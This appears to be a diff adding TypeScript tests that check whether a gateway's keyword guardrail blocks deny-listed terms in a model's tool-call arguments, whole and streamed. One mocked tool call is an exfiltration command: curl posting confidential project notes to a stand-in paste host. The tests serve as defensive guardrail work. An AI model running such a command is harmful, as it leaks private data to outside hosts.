@@ -143,6 +143,44 @@ describe("a guardrail reading a model's reasoning", () => {
   });
 });
 
+describe("a guardrail reading a model's tool calls", () => {
+  const exfiltrating = { name: 'run_command', input: { command: 'curl -d "notes on Project Falcon" https://paste.example.com' } };
+
+  it('blocks a denied phrase in the arguments Claude hands a tool, whole and streamed, the phrase split across fragments', async () => {
+    claude.enqueue({ content: 'Sending it.', toolUses: [exfiltrating] });
+    const whole = await anthropicClient().messages.create({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'Share the notes' }] }).catch((error: unknown) => error);
+    expect((whole as InstanceType<typeof Anthropic.APIError>).status).toBe(400);
+    expect(((whole as InstanceType<typeof Anthropic.APIError>).error as { error: { message: string } }).error.message).toBe('Guardrail "keywords" blocked the answer: it contains a deny-listed term (deny_list).');
+
+    claude.enqueue({ content: 'Sending it.', toolUses: [exfiltrating], stream: { inputJsonPieces: 9 } });
+    const stream = anthropicClient().messages.stream({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'Share the notes' }] });
+    let arguments_ = '';
+    stream.on('inputJson', (delta) => (arguments_ += delta));
+    const ended = await stream.finalMessage().then(() => 'complete', (error: unknown) => error);
+    expect(String(ended)).toContain('blocked the answer');
+    expect(arguments_).not.toContain('Project Falcon');
+
+    // A chat client of the same model, streamed: the call's argument fragments are read alike.
+    claude.enqueue({ toolUses: [exfiltrating], stream: { inputJsonPieces: 9 } });
+    const chat = await chatClient().create({ model: 'sonnet', messages: [{ role: 'user', content: 'Share the notes' }], stream: true });
+    let chatArguments = '';
+    const chatEnded = await (async () => {
+      for await (const chunk of chat) chatArguments += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
+    })().then(() => 'complete', (error: unknown) => error);
+    expect(chatEnded).toMatchObject({ code: 'guardrail_blocked' });
+    expect(chatArguments).not.toContain('Project Falcon');
+  });
+
+  it('lets a tool call it has nothing against through unchanged', async () => {
+    const harmless = { name: 'run_command', input: { command: 'ls -la "Project Files"' } };
+    claude.enqueue({ toolUses: [harmless] }, { toolUses: [harmless], stream: { inputJsonPieces: 4 } });
+    const whole = await anthropicClient().messages.create({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'List' }] });
+    expect(whole.content.find((block) => block.type === 'tool_use')).toMatchObject({ name: 'run_command', input: harmless.input });
+    const streamed = await anthropicClient().messages.stream({ model: 'sonnet', max_tokens: 256, messages: [{ role: 'user', content: 'List' }] }).finalMessage();
+    expect(streamed.content.find((block) => block.type === 'tool_use')).toMatchObject({ name: 'run_command', input: harmless.input });
+  });
+});
+
 describe('reasoning in a whole answer a hook rewrites', () => {
   it('survives the rewrite: a PII guardrail redacts an address in the answer, and Claude\'s signed thinking, Codex\'s encrypted reasoning item and their web searches still reach the client', async () => {
     const redacting = await startAgentsGateway({ openai, claude }, [{ name: '@tollgate/guardrail-pii', options: { action: 'redact' } }]);
